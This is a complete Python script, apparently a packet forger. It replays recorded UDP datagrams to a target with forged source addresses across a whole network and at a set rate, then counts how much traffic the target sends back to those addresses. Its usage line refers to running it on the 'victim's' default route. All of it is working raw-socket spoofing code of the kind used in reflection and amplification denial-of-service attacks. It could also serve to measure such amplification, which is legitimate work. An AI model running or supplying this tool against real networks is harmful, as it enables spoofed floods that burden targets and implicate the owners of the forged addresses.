#!/usr/bin/env python3
"""Sends recorded datagrams from sources that are not its own, and counts what is sent back to those.

usage: forger.py RECORDING TARGET PORT COUNT SOURCES PER-SECOND     on a host that is its victim's default route

RECORDING holds frames as sniff.py writes them, each behind its length; COUNT 0 is
each of them once. SOURCES is a network such as 10.0.0.0/8 or fd80::/9, or one
address with a port, 10.83.0.2:6881. Of a network of IPv6 each datagram gets a /48 of its own. Prints the datagrams and octets sent, and the datagrams and octets that came back.
"""

import ipaddress
import select
import socket
import struct
import sys
import time

UDP, SO_RCVBUFFORCE = 17, 33


class Ip:
    """Where the fields of a frame are, by the version of IP."""

    def __init__(self, version):
        self.four = version == 4
        self.family = socket.AF_INET if self.four else socket.AF_INET6
        self.ether_type = 0x0800 if self.four else 0x86DD
        self.next = 23 if self.four else 20  # what is inside the packet
        self.source, self.target, self.size = (26, 30, 4) if self.four else (22, 38, 16)
        self.longest = 1480 if self.four else 1460  # of a UDP datagram in one frame

    def udp_of(self, frame):
        return frame[14 + 4 * (frame[14] & 15) if self.four else 54:]

    def carries_udp(self, frame, at, address):
        """Whether it is UDP with this address where `at` says."""
        return (int.from_bytes(frame[12:14], "big") == self.ether_type and frame[self.next] == UDP
                and frame[at:at + self.size] == address.packed)


def datagrams(path, ip, target, port):
    """The contents of all recorded datagrams to a place, in order."""
    octets, at, found = open(path, "rb").read(), 0, []
    while at + 4 <= len(octets):
        size = int.from_bytes(octets[at:at + 4], "big")
        frame, at = octets[at + 4:at + 4 + size], at + 4 + size
        if ip.carries_udp(frame, ip.target, target):
            udp = ip.udp_of(frame)
            # Longer ones were cut into several behind the interface, where they were not recorded.
            if int.from_bytes(udp[2:4], "big") == port and len(udp) <= ip.longest:
                found.append(udp[8:int.from_bytes(udp[4:6], "big")])
    return found


def source_of(words, at):
    """The source of the at-th datagram: an address and a port."""
    if ":" in words and "/" not in words:
        address, port = words.split(":")
        return ipaddress.ip_address(address).packed, int(port)
    network = ipaddress.ip_network(words)
    # Spread over the network as if by chance, each once.
    if network.version == 4:
        source = network[at * 2654435761 % (network.num_addresses - 2) + 1]
    else:
        source = network[(at * 2654435761 % (1 << (48 - network.prefixlen)) << 80) + 1]
    return source.packed, 1024 + at % 60000


def words_sum(octets):
    """The sum of 16-bit words that the checksum of UDP is made of (RFC 768)."""
    return sum(struct.unpack(f">{(len(octets) + 1) // 2}H", octets + b"\0" * (len(octets) % 2)))


def packet(ip, content, content_sum, source, port, target, target_port):
    size = 8 + len(content)
    if ip.four:
        udp = struct.pack(">HHHH", port, target_port, size, 0) + content
        return struct.pack(">BBHHHBBH", 0x45, 0, 20 + size, 0, 0, 64, UDP, 0) + source + target.packed + udp
    # With IPv6 it has to be right (RFC 8200, 8.1).
    total = content_sum + words_sum(source + target.packed) + 2 * size + UDP + port + target_port
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    udp = struct.pack(">HHHH", port, target_port, size, ~total & 0xFFFF or 0xFFFF) + content
    return struct.pack(">IHBB", 6 << 28, size, UDP, 64) + source + target.packed + udp


def drain(link, ip, target, came):
    """Counts what a target has sent to others than our neighbours."""
    while select.select([link], [], [], 0)[0]:
        frame = link.recv(2048)
        if ip.carries_udp(frame, ip.source, target):
            came[0] += 1
            came[1] += int.from_bytes(ip.udp_of(frame)[4:6], "big") - 8


def main(path, target, port, count, sources, rate):
    target = ipaddress.ip_address(target)
    ip = Ip(target.version)
    recorded = [(content, words_sum(content)) for content in datagrams(path, ip, target, port)]
    if not recorded:
        sys.exit("nothing was recorded")
    out = socket.socket(ip.family, socket.SOCK_RAW, socket.IPPROTO_RAW)
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ip.ether_type))
    link.setsockopt(socket.SOL_SOCKET, SO_RCVBUFFORCE, 64 << 20)
    link.bind(("eth0", ip.ether_type))
    count = count or len(recorded)
    sent, came, began = 0, [0, 0], time.monotonic()
    for at in range(count):
        content, content_sum = recorded[at % len(recorded)]
        source, source_port = source_of(sources, at)
        out.sendto(packet(ip, content, content_sum, source, source_port, target, port), (str(target), 0))
        sent += len(content)
        if at % 64 == 0:
            drain(link, ip, target, came)
            time.sleep(max(0.0, began + at / rate - time.monotonic()))
    end = time.monotonic() + 1.5
    while time.monotonic() < end:
        drain(link, ip, target, came)
        time.sleep(0.01)
    print(count, sent, *came)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5], float(sys.argv[6]))
